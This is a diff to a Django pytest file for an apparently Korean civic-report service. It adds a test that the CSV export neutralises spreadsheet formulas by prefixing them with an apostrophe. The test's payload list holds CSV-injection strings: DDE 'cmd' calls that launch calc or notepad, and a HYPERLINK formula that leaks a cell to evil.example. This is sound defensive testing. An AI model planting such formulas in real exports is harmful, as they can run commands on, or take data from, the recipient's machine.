@@ -6,6 +6,8 @@ from datetime import timedelta
 import pytest
 from django.utils import timezone
 
+from geodata.models import Area
+from reports.models import Report
 from reports.services import report_change_status
 from tests.factories import HAEUNDAE, JONGNO, CategoryFactory, UserFactory, make_report
 
@@ -122,3 +124,34 @@ def test_local_governments_export_with_counts(client, reports):
     assert by_code["11010"]["geometry"]["type"] in {"Polygon", "MultiPolygon"}
     assert client.get("/exports/local_governments.geojson?simplify=abc").status_code == 400
     assert client.get("/exports/local_governments.geojson?status=nope").status_code == 400
+
+
+# OWASP's CSV-injection examples and the other starts a spreadsheet runs as a formula.
+FORMULAS = [
+    "=1+2", "+SUM(1;2)", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=cmd|' /C calc'!A0", "\r=1+1",
+    '=HYPERLINK("http://evil.example/?leak="&A1;"click")', "=cmd|' /C notepad'!'A1'", "-1", "@import",
+]
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def test_csv_cells_never_start_a_formula(client):
+    category = CategoryFactory(code="-csv-x", name="=cmd|' /C calc'!A0")
+    made = [make_report(category=category, at=JONGNO) for _ in FORMULAS]
+    # Descriptions are stored stripped; planted as they could arrive through any future path.
+    for report, formula in zip(made, FORMULAS, strict=True):
+        Report.objects.filter(pk=report.pk).update(description=formula, address="+82 " + formula)
+    Area.objects.filter(code="11010").update(name="@종로구")
+    raw = body(client.get("/exports/reports.csv"))
+    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")))
+    header, rows = rows[0], rows[1:]
+    assert len(rows) == len(FORMULAS) >= 8
+    formula_cells = [cell for row in rows for cell in row if cell.startswith(FORMULA_STARTS)]
+    assert formula_cells == []
+    by_id = {int(row[0]): dict(zip(header, row, strict=True)) for row in rows}
+    for report, formula in zip(made, FORMULAS, strict=True):
+        row = by_id[report.pk]
+        assert row["description"] == "'" + formula and row["address"] == "'+82 " + formula
+        assert row["category_code"] == "'-csv-x" and row["category_name"] == "'=cmd|' /C calc'!A0"
+        assert row["local_government_name"] == "'@종로구" and row["local_government_code"] == "11010"
+        # Numbers stay numbers.
+        assert (float(row["lon"]), float(row["lat"])) == JONGNO and int(row["support_count"]) == 0
